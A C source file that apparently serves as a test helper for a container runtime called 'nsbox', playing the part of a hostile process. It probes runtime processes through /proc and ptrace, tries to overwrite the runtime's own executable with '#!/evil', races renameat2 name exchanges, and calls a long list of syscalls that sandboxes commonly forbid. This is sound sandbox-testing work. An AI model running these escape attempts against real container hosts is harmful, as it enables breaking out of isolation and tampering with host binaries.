/* What a hostile process does, in a container or beside one. Bounded: each ends after SECONDS.
 *
 *   attack look SECONDS            looks into every process of the runtime that it can see
 *   attack overwrite SECONDS       opens the program of every process that it can see for writing
 *   attack exchange A B SECONDS    exchanges two names again and again
 *   attack replace NAME LINK SECONDS    the same, once, as soon as NAME is there
 *   attack calls SECONDS           makes system calls that are often forbidden, and prints the answers
 *
 * The first two end with the first thing that they got, and print it. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define EXCHANGE 2

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

/* Gives whether it got at the descriptors of a process that still is the runtime's. */
static bool look_at(int pid) {
    char path[64], program[256];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, program, sizeof program - 1);
    if (length < 0) return false;
    program[length] = 0;
    if (!strstr(program, "memfd:")) return false;
    printf("saw %s of process %d\n", program, pid);
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *descriptors = opendir(path);
    for (struct dirent *entry; descriptors && (entry = readdir(descriptors));) {
        char target[256];
        length = readlinkat(dirfd(descriptors), entry->d_name, target, sizeof target - 1);
        if (length > 0) printf("saw its descriptor %s: %.*s\n", entry->d_name, (int)length, target);
    }
    if (descriptors) closedir(descriptors);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) printf("traces process %d\n", pid);
    fflush(stdout);
    return true;
}

/* The next pids are known: so there is no time lost with reading /proc. Once is enough. */
static void look(double seconds) {
    int next = getpid() + 1;
    for (double end = now() + seconds; now() < end;)
        for (int pid = next; pid < next + 8; pid++)
            while (syscall(SYS_kill, pid, 0) == 0 && now() < end) {
                if (look_at(pid)) return;
                next = pid + 1;
            }
}

/* Programs of the runtime that were seen, kept open: while one runs it is busy, but not for ever. */
static int kept[256];
static int kept_count;

static void keep(const char *pid) {
    char path[64], program[256];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    ssize_t length = readlink(path, program, sizeof program - 1);
    program[length < 0 ? 0 : length] = 0;
    if (!strstr(program, "nsbox") || kept_count == 256) return;
    int fd = open(path, O_RDONLY);
    if (fd >= 0) kept[kept_count++] = fd;
}

static bool write_kept(void) {
    for (int i = 0; i < kept_count; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
        int fd = open(path, O_WRONLY);
        if (fd < 0) continue;
        if (write(fd, "#!/evil\n", 8) == 8) {
            puts("overwrote a program");
            return true;
        }
        close(fd);
    }
    return false;
}

static void overwrite(double seconds) {
    for (double end = now() + seconds; now() < end;) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; processes && (entry = readdir(processes));)
            if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9') keep(entry->d_name);
        if (processes) closedir(processes);
        if (write_kept()) return;
    }
}

static int exchange(const char *one, const char *other) {
    return (int)syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, EXCHANGE);
}

/* Zeros everywhere: a call that is let through fails for want of sense, and does nothing. */
static void call(const char *name, long number, long first, long second, long third) {
    errno = 0;
    long result = syscall(number, first, second, third, 0, 0, 0);
    printf("%s %s\n", name, result >= 0 ? "done" : errno == EPERM ? "EPERM" : errno == ENOSYS ? "ENOSYS"
                            : errno == EAFNOSUPPORT ? "EAFNOSUPPORT" : "other");
}

static void calls(void) {
    call("unshare-user", SYS_unshare, 0x10000000, 0, 0);
    call("socket-alg", SYS_socket, 38, 5, 0);
    call("socket-vsock", SYS_socket, 40, 1, 0);
    call("socket-packet", SYS_socket, 17, 3, 0);
    call("ioctl-tiocsti", SYS_ioctl, -1, 0x5412, 0);
    call("personality-odd", SYS_personality, 0x1234, 0, 0);
#define CALL(name) call(#name, SYS_##name, -1, -1, -1);
    CALL(acct) CALL(add_key) CALL(bpf) CALL(clock_settime) CALL(create_module) CALL(delete_module)
    CALL(fanotify_init) CALL(finit_module) CALL(fsconfig) CALL(fsmount) CALL(fsopen) CALL(fspick)
    CALL(get_mempolicy) CALL(init_module) CALL(io_uring_enter) CALL(io_uring_register)
    CALL(io_uring_setup) CALL(ioperm) CALL(iopl) CALL(kcmp) CALL(kexec_file_load) CALL(kexec_load)
    CALL(keyctl) CALL(lookup_dcookie) CALL(mbind) CALL(migrate_pages) CALL(mount) CALL(mount_setattr)
    CALL(move_mount) CALL(move_pages) CALL(name_to_handle_at) CALL(nfsservctl) CALL(open_by_handle_at)
    CALL(open_tree) CALL(perf_event_open) CALL(pidfd_getfd) CALL(pivot_root) CALL(process_vm_readv)
    CALL(process_vm_writev) CALL(quotactl) CALL(reboot) CALL(request_key)
    CALL(set_mempolicy) CALL(setdomainname) CALL(sethostname) CALL(setns) CALL(settimeofday)
    CALL(swapoff) CALL(swapon) CALL(syslog) CALL(umount2) CALL(userfaultfd) CALL(ustat)
    CALL(vmsplice)
}

int main(int count, char **words) {
    if (count < 3) return 2;
    double seconds = atof(words[count - 1]);
    double end = now() + seconds;
    puts("up");
    fflush(stdout);
    if (!strcmp(words[1], "look")) look(seconds);
    else if (!strcmp(words[1], "overwrite")) overwrite(seconds);
    else if (!strcmp(words[1], "exchange"))
        while (now() < end) for (int i = 0; i < 1000; i++) exchange(words[2], words[3]);
    else if (!strcmp(words[1], "replace"))
        while (now() < end && exchange(words[2], words[3]) < 0) continue;
    else if (!strcmp(words[1], "calls")) calls();
    else return 2;
    puts("done");
    return 0;
}
